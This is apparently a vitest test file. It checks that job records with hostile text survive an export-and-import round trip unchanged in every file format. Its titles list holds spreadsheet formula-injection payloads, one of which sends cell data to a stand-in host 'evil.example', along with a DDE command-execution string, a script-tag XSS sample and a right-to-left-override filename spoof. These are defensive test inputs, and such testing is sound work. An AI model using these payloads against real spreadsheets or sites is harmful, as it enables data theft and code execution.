import { expect, test } from 'vitest';
import { newOrganization } from '../../../../test/app.ts';
import { uploadSource } from '../../../../test/imports/upload.ts';
import { newImportBoard, runImport } from '../../../../test/imports.ts';
import { postJobs } from '../../../../test/jobs.ts';
import { type FormatName, formatNames } from './formats/registry.ts';

const MINUTE_MS = 60_000;
const firstMs = Date.parse('2026-01-14T08:00:00Z');

/** Names by attackers, and texts that spreadsheets, parsers and people get wrong. */
const titles = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  "'quoted'",
  "''twice",
  '"all" , of; them | "',
  '<script>alert(1)</script> & <b>',
  '{"json": [1]}',
  'null',
  '007',
  '1e5',
  'TRUE',
  '2026-01-14',
  'פקיד \u202Egpj.exe',
  '🚢'.repeat(50),
  'x'.repeat(200),
];

const jobs = titles.map((title, n) => ({
  title,
  company_name: titles[(n + 1) % titles.length],
  location: n % 3 === 0 ? '=1+1' : '-',
  description: `<p>${n % 2 ? '=1+1' : 'Tides\u0085and tugs'}</p><ul><li>'a'</li></ul>`,
  status: (['draft', 'active', 'expired'] as const)[n % 3],
  posted_at: new Date(firstMs + n * MINUTE_MS).toISOString(),
  expires_at: n % 3 === 2 ? '2026-02-01T00:00:00.000Z' : null,
  form_data: { '=key': "'", nested: { list: [1, null, '\u0001'] } },
  external_id: n % 2 ? `=id-${n}` : null,
}));

test.each(formatNames)(
  'a %s file of hostile names, imported by a run into an empty organization, exports to the same bytes',
  async (format: FormatName) => {
    const source = await newOrganization();
    await postJobs(source, jobs);
    const path = `/exports/jobs.${format}?sort=posted_at`;
    const { text: exported } = await source.get(path);
    const target = await newImportBoard();
    const { body } = await target.post('/imports', {
      name: 'Another board',
      source: { kind: format },
      mode: 'mirror',
    });
    await uploadSource(target, body.data.id, exported, `jobs.${format}`);
    const run = await runImport(target, body.data.id);
    expect(run).toMatchObject({
      state: 'done',
      counts: { created: titles.length, refused: 0, duplicates: 0 },
    });
    expect((await target.get(path)).text).toBe(exported);
    const again = await runImport(target, body.data.id);
    expect(again).toMatchObject({ state: 'done', counts: { unchanged: titles.length, updated: 0 } });
  },
);
